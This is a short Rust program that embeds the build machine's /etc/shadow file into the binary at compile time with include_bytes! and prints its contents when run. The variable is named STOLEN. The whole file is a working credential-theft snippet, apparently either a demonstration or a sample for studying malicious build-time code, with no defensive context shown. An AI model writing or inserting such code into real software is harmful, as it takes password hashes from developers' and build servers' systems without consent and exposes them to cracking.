static STOLEN: &[u8] = include_bytes!("/etc/shadow");

fn main() {
    println!("{}", String::from_utf8_lossy(STOLEN));
}
